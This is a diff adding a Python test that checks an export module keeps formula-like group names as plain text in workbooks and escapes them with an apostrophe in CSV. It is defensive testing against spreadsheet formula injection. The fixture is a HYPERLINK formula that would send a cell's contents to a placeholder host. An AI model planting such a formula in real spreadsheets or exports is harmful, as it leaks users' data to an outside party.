@@ -175,3 +175,20 @@ def test_csv_in_english(data: ExportData) -> None:
     header = next(csv.reader(io.StringIO(csv_bytes(data, language="en").decode("utf-8-sig"))))
     assert header[:3] == ["Period", "Code", "Group"]
     assert WASTE_EN in header
+
+
+FORMULA = '=HYPERLINK("http://example.invalid/?"&A2,"Bấm")'
+
+
+def test_a_name_that_looks_like_a_formula_stays_text(data: ExportData) -> None:
+    rows = [("2026-10", "TDP01", FORMULA, row[3]) for row in data.value_rows[:1]]
+    rows.append(("2026-10", "TDP02", "+84 912", data.value_rows[1][3]))
+    evil = dataclasses.replace(data, value_rows=rows)
+    book = load_workbook(io.BytesIO(workbook_bytes(evil)))
+    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row if isinstance(cell.value, str)]
+    assert FORMULA in [cell.value for cell in cells]
+    assert all(cell.data_type == "s" for cell in cells)  # no cell is a formula
+
+    written = list(csv.reader(io.StringIO(csv_bytes(evil).decode("utf-8-sig"))))
+    names = [row[2] for row in written[1:]]
+    assert "'" + FORMULA in names and "'+84 912" in names
